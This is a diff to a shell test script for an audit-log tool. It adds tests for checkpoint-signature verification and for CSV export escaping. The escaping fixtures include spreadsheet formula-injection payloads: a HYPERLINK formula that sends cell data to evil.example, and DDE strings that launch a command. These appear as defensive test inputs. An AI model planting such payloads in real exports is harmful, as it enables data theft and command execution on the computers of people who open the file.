@@ -103,8 +103,30 @@ check_err "truncated: --anchor" 6 "truncated:15 \(seq 15\): anchor: the log ends
 tamper truncated2 'del lines[12:]'
 check_err "truncated mid-interval: --require-final-checkpoint" 6 "truncated2:12 \(seq 12\): final-checkpoint" \
 	"$SL" audit verify --pubkey k.pub --require-final-checkpoint truncated2
-check "truncated mid-interval: plain verify warns of unsigned records" 0 "$SL" audit verify --pubkey k.pub truncated2
+check_err "truncated mid-interval: records no checkpoint covers fail with --pubkey" 6 \
+	"truncated2:12 \(seq 12\): unsigned-tail: the last 2 record\(s\) \(seq 11..12\) follow the last checkpoint \(seq 10\)" \
+	"$SL" audit verify --pubkey k.pub truncated2
+check "truncated mid-interval: --allow-unsigned-tail accepts it" 0 "$SL" audit verify --pubkey k.pub --allow-unsigned-tail truncated2
 assert "the warning names the unsigned records" grep -q "warning: truncated2:12: the last 2 record(s) (seq 11..12)" "$T/err"
+check_err "--allow-unsigned-tail=1 is less than the 2 unsigned records" 6 "more than --allow-unsigned-tail allows" \
+	"$SL" audit verify --pubkey k.pub --allow-unsigned-tail=1 truncated2
+check_err "--allow-unsigned-tail=0 is refused" 1 "allow-unsigned-tail" \
+	"$SL" audit verify --pubkey k.pub --allow-unsigned-tail=0 truncated2
+
+# a chain written from scratch without any key: every hash links, nothing is
+# signed. With --pubkey that is a failure, not a valid log.
+check "forger writes a whole chain without a checkpoint key" 0 "$SL" audit append --audit-log nocheckpoint <records.jsonl
+check_err "a chain with no checkpoint fails with --pubkey, naming why" 6 \
+	"nocheckpoint:12 \(seq 12\): unsigned-tail: no checkpoint signature covers any of the 12 record\(s\) \(seq 1..12\)" \
+	"$SL" audit verify --pubkey k.pub nocheckpoint
+check "a chain with no checkpoint under --allow-unsigned-tail: exit 0" 0 \
+	"$SL" audit verify --pubkey k.pub --allow-unsigned-tail nocheckpoint
+assert "... with a warning that nothing is authenticated" grep -q "warning: nocheckpoint:12: no checkpoint signature covers any of the 12 record(s) (seq 1..12): they are NOT authenticated" "$T/err"
+check_err "export --pubkey refuses the unsigned chain too" 6 "unsigned-tail" \
+	"$SL" audit export --format jsonl --pubkey k.pub nocheckpoint
+: >emptylog
+check_err "an empty log fails with --pubkey" 6 "emptylog: unsigned-tail: the log holds no record" \
+	"$SL" audit verify --pubkey k.pub emptylog
 
 # forged checkpoints: a record and checkpoints added with another key; and a
 # checkpoint claiming the right key id with a signature by the other key
@@ -334,6 +356,37 @@ for r, row in zip(recs, rows[1:]):
             assert v == str(want), (c, v, want)
 assert '"job,""quoted"""' in raw and '"[""line one\\nline two""' in raw
 PY
+
+# CSV injection: fields a client controls (dataset_id, job_id, key_id, ...)
+# that a spreadsheet would run as a formula are exported with a leading '
+python3 - >inject.jsonl <<'PY'
+import json
+for ds, job in [("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0"),
+                ("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"), ("\t=1+1", "\r=1+1"),
+                ("plain-id", "=1,2")]:
+    print(json.dumps({"event": "kms.release", "dataset_id": ds, "job_id": job, "key_id": "kek-1"}))
+PY
+check "append records with formula-like fields" 0 "$SL" audit append --audit-log inject --checkpoint-key k.key <inject.jsonl
+check "export csv of them" 0 "$SL" audit export --format csv --pubkey k.pub -o inject.csv inject
+assert "every formula-like cell starts with ' and keeps its text; others are unchanged" python3 - inject inject.csv <<'PY'
+import csv, json, sys
+recs = [json.loads(l) for l in open(sys.argv[1])]
+rows = list(csv.DictReader(open(sys.argv[2], newline=""), strict=True))
+assert len(rows) == len(recs)
+seen = 0
+for r, row in zip(recs, rows):
+    for c in ("dataset_id", "job_id", "key_id", "event", "actor"):
+        want = r[c] or ""
+        if want[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            assert row[c] == "'" + want, (c, row[c], want)
+            seen += 1
+        else:
+            assert row[c] == want, (c, row[c], want)
+    for v in row.values():
+        assert v[:1] not in ("=", "+", "-", "@", "\t", "\r"), (row, v)
+assert seen == 7, seen
+PY
+assert "the quoted formula cell is neutralised inside its quotes" grep -q "\"'=1,2\"" inject.csv
 
 # filters: two sessions a second apart
 echo '{"event":"kms.release","decision":"allow","job_id":"late"}' >late.jsonl
